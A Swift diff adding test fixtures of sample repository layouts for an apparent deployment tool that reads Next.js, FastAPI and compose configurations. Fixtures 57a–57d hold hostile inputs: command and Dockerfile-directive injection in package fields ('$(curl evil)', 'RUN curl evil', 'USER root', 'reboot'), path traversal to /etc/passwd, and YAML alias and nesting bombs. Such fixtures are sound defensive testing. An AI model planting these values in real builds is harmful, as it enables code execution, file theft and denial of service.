@@ -1,0 +1,112 @@
+extension Shape {
+  private static let both = [
+    "frontend/package.json":
+      #"{"name":"shop-web","dependencies":{"next":"16.0.10"},"scripts":{"build":"next build"}}"#,
+    "frontend/package-lock.json": #"{"lockfileVersion":3,"packages":{"node_modules/next":{"version":"16.0.10"}}}"#,
+    "frontend/app/page.tsx": "export const api = process.env.NEXT_PUBLIC_API_URL ?? 'http://localhost:8000/api/v1'",
+    "frontend/lib/server.ts": "export const api = process.env.API_URL",
+    "backend/requirements.txt": "fastapi==0.120.0\nuvicorn==0.38.0\n",
+    "backend/main.py": "from fastapi import FastAPI\napp = FastAPI()\n@app.get('/health')\ndef health(): ...\n",
+  ]
+
+  static let repositoryShapes: [Shape] = [
+    Shape(
+      name: "53a-frontend-backend-compose",
+      files: both.merging([
+        "docker-compose.yml": """
+        services:
+          api:
+            build: ./backend
+            ports: ["8000:8000"]
+          web:
+            build: { context: ./frontend, args: { NEXT_PUBLIC_API_URL: "http://localhost:8000/api/v1" } }
+            environment:
+              API_URL: http://api:8000
+              SESSION_SECRET:
+
+        """, "frontend/Dockerfile": "FROM node\n", ".dockerignore": "**/node_modules\n",
+      ]) { $1 }),
+    Shape(
+      name: "53b-wrong-port",
+      files: both.merging(["frontend/.env.example": "API_URL=http://localhost:9999\n"]) { $1 }),
+    Shape(
+      name: "53c-overridden",
+      files: both.merging([
+        "forge.yaml": """
+        version: 1
+        services:
+          web:
+            path: frontend
+            versions: { node: "22" }
+            port: 8080
+            build-args: { NEXT_PUBLIC_API_URL: https://api.example }
+          shop-api:
+            path: backend
+            entrypoint: main:app
+            health: /health
+
+        """
+      ]) { $1 }),
+    Shape(name: "53d-unknown-key", files: both.merging(["forge.yaml": "services:\n  web:\n    pahts: x\n"]) { $1 }),
+    Shape(name: "53e-unknown-service", files: both.merging(["forge.yaml": "services:\n  backnd:\n    port: 80\n"]) { $1 }),
+    Shape(
+      name: "54a-odd-names",
+      files: [
+        "my app/package.json": "{\r\n\"dependencies\": {\r\n\"next\": \"16.0.10\"},\r\n\"scripts\": {\"build\": \"next build\"}}\r\n",
+        "my app/app/page.tsx": "process.env.A", "my app/app/Page.tsx": "process.env.B",
+      ]),
+    Shape(
+      name: "54b-what-git-leaves-out",
+      files: both.merging([
+        ".gitignore": "generated/\n/frontend/tmp\n*.local.ts\n!keep.local.ts\n.env*\n", "frontend/.env": "A=1\n",
+        "frontend/generated/a.ts": "process.env.GENERATED", "frontend/tmp/a.ts": "process.env.TMP",
+        "frontend/a.local.ts": "process.env.LOCAL", "frontend/keep.local.ts": "process.env.KEPT",
+      ]) { $1 }),
+    Shape(
+      name: "55-submodule-and-lfs",
+      files: both.merging([
+        ".gitmodules": "[submodule \"shared\"]\n\tpath = shared\n\turl = https://git.example/shared\n",
+        "frontend/public/hero.png": "version https://git-lfs.github.com/spec/v1\noid sha256:ab\nsize 1\n",
+      ]) { $1 }),
+    Shape(name: "56a-nothing-of-ours", files: ["README.md": "hello\n"]),
+    Shape(
+      name: "56b-nested-repository", files: both.merging(["vendor/x/.git/HEAD": "ref: x\n", "vendor/x/a.txt": ""]) { $1 }),
+    Shape(
+      name: "56c-windows-paths",
+      files: both.merging([
+        "frontend/package.json":
+          #"{"name":"shop-web","dependencies":{"next":"16.0.10","ui":"file:..\\ui"},"scripts":{"build":"next build"}}"#
+      ]) { $1 }),
+    Shape(
+      name: "57a-injection",
+      files: [
+        "package.json":
+          #"{"name":"x\nRUN curl evil","dependencies":{"next":"16.0.10"},"scripts":{"build":"next build; $(curl evil)\nUSER root","start":"next start -p 80;reboot"}}"#,
+        "app/page.tsx": "process.env['A\\nRUN x']", ".nvmrc": "22\nRUN curl evil\n",
+        "next.config.js": "module.exports = { basePath: '/a\\nUSER root', distDir: '.next\\nUSER root' }",
+      ]),
+    Shape(
+      name: "57b-workspace-traversal",
+      files: [
+        "package.json": #"{"private":true,"workspaces":["../../etc/*","/etc/*","apps/*"]}"#,
+        "apps/web/package.json":
+          #"{"name":"web","dependencies":{"next":"16.0.10","a":"file:../../../../etc","b":"link:/etc"},"scripts":{"build":"next build"}}"#,
+        "apps/web/app/page.tsx": "", "apps/web/next.config.js": "import x from '../../../../etc/passwd'\nmodule.exports = x",
+      ]),
+    Shape(
+      name: "57c-bombs",
+      files: [
+        "package.json": #"{"name":"web","dependencies":{"next":"16.0.10"},"scripts":{"build":"next build"}}"#,
+        "app/page.tsx": "",
+        "docker-compose.yml": "a: &a [x,x,x,x,x,x,x,x]\n"
+          + (0..<20).map { "b\($0): &b\($0) [*\($0 == 0 ? "a" : "b\($0 - 1)"),*\($0 == 0 ? "a" : "b\($0 - 1)")]\n" }
+          .joined() + "services: { web: { build: ., environment: *b19 } }\n",
+        "mise.toml": "[tools]\nnode = " + String(repeating: "[", count: 5_000) + "\n",
+        "turbo.json": String(repeating: "{\"tasks\":", count: 5_000),
+        "vercel.json": "{\"env\": []}", "next.config.js": "module.exports = " + String(repeating: "f(", count: 5_000),
+      ]),
+    Shape(
+      name: "57d-yaml-depth",
+      files: both.merging(["forge.yaml": String(repeating: "[", count: 900) + "\n"]) { $1 }),
+  ]
+}
